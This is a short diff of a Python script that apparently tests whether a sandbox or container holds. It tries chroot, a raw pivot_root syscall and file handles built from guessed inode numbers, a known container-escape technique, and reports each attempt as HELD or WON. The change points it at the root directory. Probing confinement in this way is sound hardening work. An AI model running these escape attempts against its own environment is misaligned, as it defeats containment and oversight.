@@ -14,7 +14,7 @@ for name, call in {"chroot": lambda: os.chroot("/tmp"), "chroot out": lambda: os
         print("HELD" if e.errno in (errno.EPERM, errno.EACCES) else "WRONG", name, e)
 ctypes.set_errno(0)
 print("WON" if libc.syscall({"x86_64": 155, "aarch64": 41}[os.uname().machine], b"/tmp", b"/tmp") == 0 else "HELD", os.strerror(ctypes.get_errno()))
-root = os.open("/etc/hosts", os.O_RDONLY)
+root = os.open("/", os.O_RDONLY)
 for inode in (2, 128, 256):
     handle = struct.pack("=IiQ", 8, 1, inode)
     ctypes.set_errno(0)
